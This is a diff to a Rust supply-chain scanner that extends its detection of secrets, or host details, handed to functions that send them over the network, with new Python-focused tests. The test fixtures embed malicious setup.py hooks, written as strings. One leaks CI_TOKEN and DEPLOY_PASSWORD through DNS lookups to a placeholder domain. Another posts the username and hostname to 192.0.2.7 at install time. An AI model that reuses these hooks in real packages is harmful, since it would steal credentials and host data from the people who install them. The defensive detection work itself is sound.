@@ -741,23 +741,31 @@ fn secrets_handed_to_senders(
 ) -> HashMap<usize, Vec<crate::RawBehaviour>> {
     let mut out: HashMap<usize, Vec<crate::RawBehaviour>> = HashMap::new();
     for (&i, f) in facts {
-        for call in &f.secret_calls {
-            let (j, name) = if call.callee.starts_with('.') {
-                match resolve_function(pkg, resolver, facts, i, &call.callee) {
-                    Some(found) => found,
-                    None => continue,
-                }
+        // A function of the file by its name, or one of another file of the package by
+        // the import it is named through (`./hooks.send`; Python's `util.net.send`).
+        let python = pkg.files[i].kind == FileKind::Python;
+        let function = |callee: &str| {
+            if callee.starts_with('.') || (python && callee.contains('.')) {
+                resolve_function(pkg, resolver, facts, i, callee)
             } else {
-                (i, call.callee.clone())
+                Some((i, callee.to_owned()))
+            }
+        };
+        let has = |j: usize, name: &str, ids: fn(&FileFacts) -> &[u32]| {
+            facts.get(&j).is_some_and(|g| {
+                ids(g).iter().any(|&k| {
+                    g.reach
+                        .functions
+                        .get(k as usize)
+                        .is_some_and(|func| func.name == name)
+                })
+            })
+        };
+        for call in &f.secret_calls {
+            let Some((j, name)) = function(&call.callee) else {
+                continue;
             };
-            let Some(g) = facts.get(&j) else { continue };
-            let sends = g.param_sends.iter().any(|&k| {
-                g.reach
-                    .functions
-                    .get(k as usize)
-                    .is_some_and(|func| func.name == name)
-            });
-            if !sends {
+            if !has(j, &name, |g| &g.param_sends) {
                 continue;
             }
             let detail = if j == i {
@@ -776,6 +784,32 @@ fn secrets_handed_to_senders(
                 guarded: false,
                 function: call.function,
             });
+        }
+        // What one function of the package returns, secrets or host details, handed to
+        // another that sends what it is given (`net.publish(sysinfo.gather())`).
+        for handoff in &f.handoffs {
+            let (Some((j, name)), Some((k, source))) =
+                (function(&handoff.call.callee), function(&handoff.source))
+            else {
+                continue;
+            };
+            if !(has(j, &name, |g| &g.param_sends) && has(k, &source, |g| &g.secret_returns)) {
+                continue;
+            }
+            let list = out.entry(i).or_default();
+            if !list.iter().any(|b| b.offset == handoff.call.offset) {
+                list.push(crate::RawBehaviour {
+                    kind: BehaviourKind::SecretExfiltration,
+                    top_level: handoff.call.top_level,
+                    offset: handoff.call.offset,
+                    detail: format!(
+                        "what {source}() of {} returns (secrets or host details) handed to {name}() of {}, which sends what it is given over the network",
+                        pkg.files[k].relative, pkg.files[j].relative
+                    ),
+                    guarded: false,
+                    function: handoff.call.function,
+                });
+            }
         }
         // What a function of another file returns, sent over the network, where that
         // function returns secrets (`dns.resolveTxt(encode(collect()) + ...)`).
@@ -1687,5 +1721,90 @@ https.get('https://telemetry.example.invalid/v?' + version(), () => {});
                 .to_vec()
         );
         assert!(!resolver.files_of(FileKind::Python, "", "other").is_empty());
+    }
+    fn exfiltrations(a: &Analysis) -> Vec<(String, Context)> {
+        a.behaviours
+            .iter()
+            .filter(|b| b.kind == BehaviourKind::SecretExfiltration)
+            .map(|b| (b.detail.clone(), b.context))
+            .collect()
+    }
+
+    #[test]
+    fn python_secrets_handed_to_a_function_that_sends_its_parameters() {
+        // The sender takes what it is given and looks it up under a zone; the caller
+        // loops over token names and hands each value over.
+        let hook = "import os, socket\n\ndef leak(name, value):\n    socket.gethostbyname(f'{value}.{name}.t.example.invalid')\n\ndef get_requires_for_build_wheel(config_settings=None):\n    for n in ('CI_TOKEN', 'DEPLOY_PASSWORD'):\n        leak(n, os.environ.get(n, ''))\n    return []\n\nget_requires_for_build_wheel()\n";
+        let a = analyze_package(&package(
+            "hooky",
+            &[
+                ("PKG-INFO", "Name: hooky\nVersion: 1.0\n"),
+                ("setup.py", hook),
+            ],
+        ));
+        let found = exfiltrations(&a);
+        assert!(
+            found
+                .iter()
+                .any(|(d, c)| d.contains("handed to leak()") && *c == Context::Install),
+            "{found:?}"
+        );
+        // The same sender handed what is not a secret: nothing is sent that matters.
+        let plain = hook.replace("os.environ.get(n, '')", "n.lower()");
+        let a = analyze_package(&package(
+            "hooky",
+            &[
+                ("PKG-INFO", "Name: hooky\nVersion: 1.0\n"),
+                ("setup.py", &plain),
+            ],
+        ));
+        assert!(exfiltrations(&a).is_empty(), "{:?}", exfiltrations(&a));
+        // A client handed its token with the address of the service it authenticates to.
+        let client = "import os, urllib.request\n\ndef call(url, token=None):\n    req = urllib.request.Request(url, headers={'Authorization': 'Bearer ' + token})\n    return urllib.request.urlopen(req).read()\n\nlatest = call('https://api.example.org/repos/x/releases', os.environ.get('GH_TOKEN'))\n";
+        let a = analyze_package(&package(
+            "client",
+            &[
+                ("PKG-INFO", "Name: client\nVersion: 1.0\n"),
+                ("setup.py", client),
+            ],
+        ));
+        assert!(exfiltrations(&a).is_empty(), "{:?}", exfiltrations(&a));
+    }
+
+    #[test]
+    fn python_result_of_one_module_handed_to_a_sender_of_another() {
+        let files = |collect: &str| {
+            vec![
+                ("PKG-INFO", "Name: probe\nVersion: 1.0\n".to_owned()),
+                (
+                    "setup.py",
+                    "from helpers import facts, post\npost.ship(facts.collect())\n".to_owned(),
+                ),
+                ("helpers/__init__.py", String::new()),
+                ("helpers/facts.py", collect.to_owned()),
+                (
+                    "helpers/post.py",
+                    "import urllib.request\n\ndef ship(doc, url='http://192.0.2.7/x'):\n    urllib.request.urlopen(url, str(doc).encode())\n".to_owned(),
+                ),
+            ]
+        };
+        let run = |collect: &str| {
+            let owned = files(collect);
+            let borrowed: Vec<(&str, &str)> = owned.iter().map(|(p, t)| (*p, t.as_str())).collect();
+            exfiltrations(&analyze_package(&package("probe", &borrowed)))
+        };
+        // Host details (the user, the machine) collected in one file, sent by the other.
+        let found = run(
+            "import getpass, platform\n\ndef collect():\n    return {'u': getpass.getuser(), 'n': platform.node()}\n",
+        );
+        assert!(
+            found.iter().any(|(d, c)| d.contains("collect()")
+                && d.contains("handed to ship()")
+                && *c == Context::Install),
+            "{found:?}"
+        );
+        // A collector of nothing about the host: the hand-off is ordinary.
+        let found = run("def collect():\n    return {'version': '1.0'}\n");
+        assert!(found.is_empty(), "{found:?}");
     }
 }
